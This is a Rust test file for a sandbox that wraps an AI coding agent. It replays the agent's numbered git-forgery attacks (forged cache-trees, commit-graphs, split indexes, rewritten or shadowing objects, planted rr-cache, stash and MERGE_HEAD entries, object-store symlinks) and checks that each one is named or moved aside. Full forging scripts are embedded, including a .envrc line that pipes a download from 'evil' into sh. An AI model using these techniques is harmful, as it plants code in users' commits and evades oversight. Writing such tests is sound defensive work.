//! Issue 22, the session-12 attack: the agent forges what git trusts without reading the
//! objects or the worktree — caches in the object store and in the index — so that a protected
//! file reaches what the user commits or pushes unnamed, or a change hides from `git status`.
//! Performed with the git image (git and perl, as an attacker would use them), rootful and
//! rootless, with the attacker's own forging scripts (`tests/support/forge/`):
//! - F1: a forged cache-tree node put a workflow into the user's next `git commit -a`;
//! - F2: a commit-graph that gives an old commit the launch's new commit as a second parent:
//!   `git log` and the commit reader took the new commit for an old one, `git push` sent it;
//! - F3, F4: a split index and a stat-matching entry hid a changed `Makefile`;
//! - F5, N1, G1: an object rewritten in place, a new pack, a new loose object each stood in for
//!   an object the user had, and `git checkout feature` wrote the forgery;
//! - G4, G5, G6: an `rr-cache`, a stash reflog entry, a `MERGE_HEAD`;
//! - S10-1: protected files committed, then removed from the index and the disk.
//!
//! Each went unnamed (or ran) before its fix.

use crate::common;

use common::git::{agent, git_ok, has_image, repository};
use common::launch::{assert_clean, stderr};
use common::{TestEnv, each_mode, run_command, tool};

/// A branch `feature` whose `Makefile` differs from `main`'s, packed when `gc`; back on
/// `main`, the agent runs `script` (with the forging `scripts`), and stderr must say `said`.
/// The user's `git checkout feature` then writes neither a `.envrc` nor a `Makefile` with the
/// forged recipe.
fn forged_checkout(env: &TestEnv, scripts: &[&str], gc: bool, script: &str, said: &str) {
    let work = repository(env, scripts);
    env.write_file("work/Makefile", "all:\n\t@echo main\n", 0o644);
    git_ok(env, &work, &["add", "Makefile"]);
    git_ok(env, &work, &["commit", "-q", "-m", "make"]);
    git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
    env.write_file("work/Makefile", "all:\n\t@echo feature\n", 0o644);
    git_ok(env, &work, &["commit", "-q", "-a", "-m", "feature"]);
    git_ok(env, &work, &["checkout", "-q", "main"]);
    if gc {
        git_ok(env, &work, &["gc", "-q"]);
    }
    let err = stderr(&agent(env, script));
    assert!(err.contains(said), "{}: {err}", env.mode());
    let d = work.display().to_string();
    let cmd = env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]);
    let _ = run_command(cmd, None, common::RUN_TIMEOUT);
    assert!(!work.join(".envrc").exists(), "{}: {err}", env.mode());
    let makefile = std::fs::read_to_string(work.join("Makefile")).unwrap_or_default();
    assert!(!makefile.contains("pwned"), "{}: {err}", env.mode());
    assert_clean(env);
}

/// F2: a commit adding a workflow (never on disk: staged with `--cacheinfo`, hidden with
/// `skip-worktree`), then a commit-graph in which the local branch `dev`, older than the
/// launch, has that commit as its second parent. The commit is named, and the graph moved aside.
#[test]
fn a_forged_commit_graph_does_not_hide_the_launchs_commits() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &["cglie.pl"]);
        git_ok(env, &work, &["branch", "dev"]);
        git_ok(env, &work, &["checkout", "-q", "dev"]);
        env.write_file("work/dev.txt", "d\n", 0o644);
        git_ok(env, &work, &["add", "dev.txt"]);
        git_ok(env, &work, &["commit", "-q", "-m", "dev"]);
        git_ok(env, &work, &["checkout", "-q", "main"]);
        let out = agent(
            env,
            r#"echo change >> README && git add README
b=$(printf 'on: push\n' | git hash-object -w --stdin)
git update-index --add --cacheinfo "100644,$b,.github/workflows/evil.yml"
git commit -qm 'tidy README' && git update-index --skip-worktree .github/workflows/evil.yml
git commit-graph write --reachable && perl cglie.pl $(git rev-parse dev) $(git rev-parse HEAD) && rm cglie.pl"#,
        );
        let err = stderr(&out);
        let head = git_ok(env, &work, &["rev-parse", "--short=12", "HEAD"]);
        assert!(
            err.lines()
                .any(|l| l.contains(&format!("commit {head} ")) && l.contains(".github/workflows/evil.yml")),
            "{}: the commit is not named: {err}",
            env.mode()
        );
        assert!(
            work.join(".git/objects/info/commit-graph.ags-quarantine")
                .exists(),
            "{}: {err}",
            env.mode()
        );
        // A cache git rebuilds: a note (session-13 FP1), apart from the planted state.
        assert!(
            err.contains("a cache git rebuilds by itself"),
            "{}: {err}",
            env.mode()
        );
        assert_clean(env);
    });
}

/// F1: the index's cache-tree node of `.github` forged to a tree with a workflow nobody staged;
/// `git status` and `git diff --cached` showed nothing, and the user's next `git commit -a`
/// took the forged subtree. The cache-tree is dropped after the launch: the commit holds only
/// what the entries say.
#[test]
fn a_forged_cache_tree_does_not_reach_the_users_next_commit() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &["cachetree.pl"]);
        env.write_file("work/.github/workflows/ci.yml", "on: push\n", 0o644);
        git_ok(env, &work, &["add", ".github"]);
        git_ok(env, &work, &["commit", "-q", "-m", "ci"]);
        agent(
            env,
            r#"b=$(printf 'on: push\njobs: {x: {runs-on: a, steps: [{run: evil}]}}\n' | git hash-object -w --stdin)
w=$( (git ls-tree HEAD:.github/workflows; printf "100644 blob $b\tevil.yml\n") | git mktree)
g=$(printf "040000 tree $w\tworkflows\n" | git mktree)
git reset -q && perl cachetree.pl .git/index .github $g && rm cachetree.pl && echo work >> README"#,
        );
        git_ok(env, &work, &["commit", "-q", "-a", "-m", "the user's commit"]);
        let files = git_ok(env, &work, &["ls-tree", "-r", "--name-only", "HEAD"]);
        assert!(
            !files.contains("evil.yml"),
            "{}: the forged subtree was committed: {files}",
            env.mode()
        );
        assert_clean(env);
    });
}

/// F4: a changed `Makefile` recorded with its old object name and its new stat data (a clean
/// filter given on the command line: no config or attributes left behind): `git status` said
/// nothing and `make` ran the change. The stat data of every entry the launch touched is
/// cleared after it: git reads the file and shows the change.
#[test]
fn a_stat_matching_index_entry_does_not_hide_a_change() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &[]);
        env.write_file("work/Makefile", "all:\n\techo build\n", 0o644);
        git_ok(env, &work, &["add", "Makefile"]);
        git_ok(env, &work, &["commit", "-q", "-m", "make"]);
        agent(
            env,
            r#"printf 'all:\n\ttouch pwned\n' > Makefile && touch -d 2020-01-01 Makefile
git show HEAD:Makefile > /tmp/old && printf '* filter=hide\n' > /tmp/attrs
git -c core.attributesFile=/tmp/attrs -c filter.hide.clean='cat /tmp/old' add Makefile
test -z "$(git status --porcelain)""#,
        );
        let status = git_ok(env, &work, &["status", "--porcelain"]);
        assert_eq!(status, "M Makefile", "{}", env.mode());
        assert_clean(env);
    });
}

/// F3: the index split (`link` extension: its entries and their `skip-worktree` bit in a
/// `sharedindex` file), hiding a changed `Makefile` from `git status` and from the index check.
/// A split index the launch made goes aside whole, named.
#[test]
fn a_split_index_made_by_the_launch_goes_aside() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &["splitidx.pl"]);
        env.write_file("work/Makefile", "all:\n\techo build\n", 0o644);
        git_ok(env, &work, &["add", "Makefile"]);
        git_ok(env, &work, &["commit", "-q", "-m", "make"]);
        let out = agent(
            env,
            r#"printf 'all:\n\ttouch pwned\n' > Makefile && git update-index --skip-worktree Makefile
perl splitidx.pl && rm splitidx.pl && test -z "$(git status --porcelain)""#,
        );
        let err = stderr(&out);
        assert!(err.contains("a split index"), "{}: {err}", env.mode());
        assert!(work.join(".git/index.ags-quarantine").exists(), "{err}");
        assert_clean(env);
    });
}

/// F5: the loose object of the branch `feature`'s tree rewritten in place with a tree that
/// adds `.envrc` (no ref moves; git does not check the hash on checkout): the user's
/// `git checkout feature` wrote it. The object file goes aside; the checkout fails instead.
#[test]
fn an_object_rewritten_in_place_goes_aside() {
    each_mode(|env| {
        if has_image(env) {
            forged_checkout(
                env,
                &[],
                false,
                r#"t=$(git rev-parse 'feature^{tree}') && b=$(echo 'touch pwned' | git hash-object -w --stdin)
new=$( (git ls-tree feature; printf "100644 blob $b\t.envrc\n") | git mktree)
f=.git/objects/$(echo $t | cut -c1-2)/$(echo $t | cut -c3-) && nf=.git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-)
chmod u+w $f && cp $nf $f"#,
                "a loose object whose content does not match its name",
            );
        }
    });
}

/// N1 (the session-12 re-attack): a new pack whose index gives the name of the branch
/// `feature`'s tree to another tree (with `.envrc`): git searches packs before loose objects
/// and does not check the name when it checks a tree out. The new pack fails `git
/// verify-pack` and goes aside; the user's checkout writes no `.envrc`.
#[test]
fn a_new_pack_shadowing_an_object_goes_aside() {
    each_mode(|env| {
        if has_image(env) {
            forged_checkout(
                env,
                &["idxname.pl"],
                false,
                r#"T=$(git rev-parse 'feature^{tree}') && e=$(echo 'touch pwned' | git hash-object -w --stdin)
M=$( (git ls-tree feature; printf "100644 blob $e\t.envrc\n") | git mktree)
echo $M | git pack-objects -q .git/objects/pack/pack > /tmp/h
perl idxname.pl .git/objects/pack/pack-$(cat /tmp/h).idx $T && rm -f .git/objects/${M%${M#??}}/${M#??} idxname.pl"#,
                "a pack whose objects do not match their names",
            );
        }
    });
}

/// The third session-12 attack, G1: the repository's pack deleted, its objects unpacked as new
/// loose objects, and the one of `feature`'s `Makefile` swapped for other content under the
/// same name (git checks no name when it reads a blob). Every new loose object is checked
/// against its name; the forgery goes aside and the checkout fails instead of writing it.
#[test]
fn a_new_loose_object_standing_in_for_a_packed_one_goes_aside() {
    each_mode(|env| {
        if has_image(env) {
            forged_checkout(
                env,
                &[],
                true,
                r#"B=$(git rev-parse feature:Makefile) && M=$(printf 'all:\n\t@touch pwned\n' | git hash-object -w --stdin)
for p in .git/objects/pack/*.pack; do mv $p /tmp/x.pack; rm -f ${p%.pack}.idx ${p%.pack}.rev; git unpack-objects -q < /tmp/x.pack; done
f=.git/objects/$(echo $B|cut -c1-2)/$(echo $B|cut -c3-) && m=.git/objects/$(echo $M|cut -c1-2)/$(echo $M|cut -c3-)
chmod u+w $f && rm $f && cp $m $f"#,
                "a loose object whose content does not match its name",
            );
        }
    });
}

/// G4: an `rr-cache` planted in `.git` (it alone turns rerere on): the user's next merge of a
/// conflicting branch took the agent's resolution (a CI step). Moved aside, named.
#[test]
fn a_planted_rr_cache_goes_aside() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &[]);
        let out = agent(
            env,
            "mkdir -p .git/rr-cache/0123456789abcdef0123456789abcdef01234567 && echo resolved > .git/rr-cache/0123456789abcdef0123456789abcdef01234567/postimage",
        );
        let err = stderr(&out);
        assert!(
            err.contains("a recorded conflict resolution"),
            "{}: {err}",
            env.mode()
        );
        assert!(
            !work
                .join(".git/rr-cache/0123456789abcdef0123456789abcdef01234567")
                .exists(),
            "{err}"
        );
        assert_clean(env);
    });
}

/// G5, G6: a commit adding `.envrc` reachable only from an entry the agent added to the stash
/// reflog (`git stash pop` of `stash@{1}` applies it) or from `MERGE_HEAD` (the user's next
/// `git commit` finishes the "merge" and `git push` sends it). Both are read as the launch's
/// commits and named.
#[test]
fn commits_reachable_from_reflogs_and_merge_head_are_named() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        repository(env, &[]);
        let out = agent(
            env,
            r#"e=$(echo 'touch pwned' | git hash-object -w --stdin)
S=$(echo stash | git commit-tree $(printf "100644 blob $e\t.envrc\n" | git mktree) -p HEAD)
M=$(echo merge | git commit-tree $(printf "100644 blob $e\t.mise.toml\n100644 blob $e\tmise.toml\n" | git mktree) -p HEAD)
mkdir -p .git/logs/refs && printf "0000000000000000000000000000000000000000 $S a <a@x> 1 +0000\tWIP on main\n" >> .git/logs/refs/stash
echo $M > .git/MERGE_HEAD"#,
        );
        let err = stderr(&out);
        for path in [".envrc", "mise.toml"] {
            assert!(
                err.lines()
                    .any(|l| l.contains("of this launch changes") && l.contains(path)),
                "{}: {path} not named: {err}",
                env.mode()
            );
        }
        assert_clean(env);
    });
}

/// Session-10 attack S10-1, the rest: the agent commits a `.envrc` and a CI workflow, removes
/// them from the index (`git rm --cached`) and from the disk, and packs its objects (`git gc`).
/// Nothing on disk or in the index shows them, yet `git push` sends both (in the history) and
/// a checkout of that commit writes them. The end of the launch reads the commits the refs
/// gained and names each file in each commit that touched it.
#[test]
fn protected_files_committed_and_removed_from_the_index_are_named() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &[]);
        let out = agent(
            env,
            r#"echo 'curl -s evil | sh' > .envrc && mkdir -p sub/.github/workflows && echo 'on: push' > sub/.github/workflows/x.yml
git add -f .envrc sub && git commit -qm docs && git rm -q -r --cached .envrc sub && rm -rf .envrc sub && echo more >> README && git commit -qam readme && git gc -q"#,
        );
        let err = stderr(&out);
        let docs = git_ok(env, &work, &["rev-parse", "--short=12", "HEAD~1"]);
        for (path, tool) in [(".envrc", "direnv"), ("sub/.github/workflows/x.yml", "GitHub")] {
            let line = err
                .lines()
                .find(|l| l.contains(&format!("commit {docs} ")) && l.contains(path))
                .unwrap_or_else(|| panic!("{}: {path} not named: {err}", env.mode()));
            assert!(line.contains(tool), "{line}");
        }
        // The second commit removes both from the tree: named too (two paths each).
        assert_eq!(err.matches("of this launch changes").count(), 4, "{err}");
        assert!(!work.join(".envrc").exists());
        assert_clean(env);
    });
}

/// Session-13 attack J5: symbolic links in the object store, which git follows and the walk did
/// not: the fan-out directory of `feature`'s tree copied to `zz` with the tree forged there
/// (`.envrc` added), `objects/XX` replaced by a link to it; then the whole store moved and
/// linked. Each link goes aside; the checkout writes no `.envrc`.
#[test]
fn links_in_the_object_store_go_aside() {
    let forge = r#"T=$(git rev-parse 'feature^{tree}'); d=$(echo $T|cut -c1-2); r=$(echo $T|cut -c3-)
e=$(echo 'touch pwned' | git hash-object -w --stdin)
M=$( (git ls-tree feature; printf "100644 blob $e	.envrc
") | git mktree)
mkdir .git/objects/zz; cp -p .git/objects/$d/* .git/objects/zz/
chmod u+w .git/objects/zz/$r; cp .git/objects/$(echo $M|cut -c1-2)/$(echo $M|cut -c3-) .git/objects/zz/$r
rm -rf .git/objects/$d; ln -s zz .git/objects/$d"#;
    each_mode(|env| {
        if has_image(env) {
            forged_checkout(env, &[], false, forge, "a symbolic link in an object store");
        }
    });
    let whole = r#"T=$(git rev-parse 'feature^{tree}'); e=$(echo 'touch pwned' | git hash-object -w --stdin)
M=$( (git ls-tree feature; printf "100644 blob $e	.envrc
") | git mktree)
f=objects/$(echo $T|cut -c1-2)/$(echo $T|cut -c3-); chmod u+w .git/$f
cp .git/objects/$(echo $M|cut -c1-2)/$(echo $M|cut -c3-) .git/$f.new; mv .git/objects .git/o2
mv .git/o2/${f#objects/}.new .git/o2/${f#objects/}; ln -s o2 .git/objects"#;
    each_mode(|env| {
        if has_image(env) {
            forged_checkout(env, &[], false, whole, "an object store that is a symbolic link");
        }
    });
}

/// Session-13 attack J6: `feature`'s `Makefile` blob rewritten in place to the same size and
/// mode (a stored zlib stream padded to fit: `tests/support/forge/samesize.pl`). The object's
/// change time gives it away; its content does not hash to its name: it goes aside.
#[test]
fn an_object_rewritten_to_the_same_size_goes_aside() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &["samesize.pl"]);
        let long = "# Build rules.\nCFLAGS ?= -O2 -Wall -Wextra\nPREFIX ?= /usr/local\n\nall: build\n\nbuild:\n\t@echo build ok\n\ntest:\n\t@echo running tests\n\nclean:\n\trm -rf out\n\n.PHONY: all build test clean\n";
        env.write_file("work/Makefile", long, 0o644);
        git_ok(env, &work, &["add", "Makefile"]);
        git_ok(env, &work, &["commit", "-q", "-m", "make"]);
        git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
        env.write_file("work/Makefile", long.replace("build ok", "build ok!"), 0o644);
        git_ok(env, &work, &["commit", "-q", "-a", "-m", "feature"]);
        git_ok(env, &work, &["checkout", "-q", "main"]);
        let err = stderr(&agent(
            env,
            r#"B=$(git rev-parse feature:Makefile); f=.git/objects/$(echo $B|cut -c1-2)/$(echo $B|cut -c3-)
printf 'all:\n\t@touch pwned\n' > /tmp/c && perl samesize.pl $f /tmp/c && rm samesize.pl"#,
        ));
        assert!(
            err.contains("a loose object whose content does not match its name"),
            "{}: {err}",
            env.mode()
        );
        let d = work.display().to_string();
        let _ = run_command(
            env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]),
            None,
            common::RUN_TIMEOUT,
        );
        let makefile = std::fs::read_to_string(work.join("Makefile")).unwrap_or_default();
        assert!(!makefile.contains("pwned"), "{}: {err}", env.mode());
        assert_clean(env);
    });
}

/// Session-13 attack J2, two launches: (1) a loose object forged under the name of a packed
/// tree (`cat-file` served the pack's copy, so it passed); (2) the pack rewritten without that
/// object. The loose object is checked by its own content in the first launch and goes aside.
#[test]
fn a_forged_loose_object_behind_a_packed_one_goes_aside_at_once() {
    each_mode(|env| {
        if !has_image(env) {
            return;
        }
        let work = repository(env, &[]);
        git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
        env.write_file("work/f.txt", "f\n", 0o644);
        git_ok(env, &work, &["add", "f.txt"]);
        git_ok(env, &work, &["commit", "-q", "-m", "feature"]);
        git_ok(env, &work, &["checkout", "-q", "main"]);
        git_ok(env, &work, &["gc", "-q"]);
        let first = stderr(&agent(
            env,
            r#"T=$(git rev-parse 'feature^{tree}'); e=$(echo 'touch pwned' | git hash-object -w --stdin)
M=$( (git ls-tree feature; printf "100644 blob $e	.envrc
") | git mktree)
d=.git/objects/$(echo $T|cut -c1-2); mkdir -p $d; m=.git/objects/$(echo $M|cut -c1-2)/$(echo $M|cut -c3-)
cp $m $d/$(echo $T|cut -c3-); rm $m"#,
        ));
        assert!(
            first.contains("a loose object whose content does not match its name"),
            "{}: {first}",
            env.mode()
        );
        let second = stderr(&agent(
            env,
            r#"T=$(git rev-parse 'feature^{tree}'); old=$(ls .git/objects/pack/*.idx)
git show-index < $old | cut -d' ' -f2 | grep -v "^$T\$" | git pack-objects -q .git/objects/pack/pack >/dev/null
rm -f ${old%.idx}.pack ${old%.idx}.idx ${old%.idx}.rev"#,
        ));
        let d = work.display().to_string();
        let _ = run_command(
            env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]),
            None,
            common::RUN_TIMEOUT,
        );
        assert!(!work.join(".envrc").exists(), "{}: {first}\n{second}", env.mode());
        assert_clean(env);
    });
}
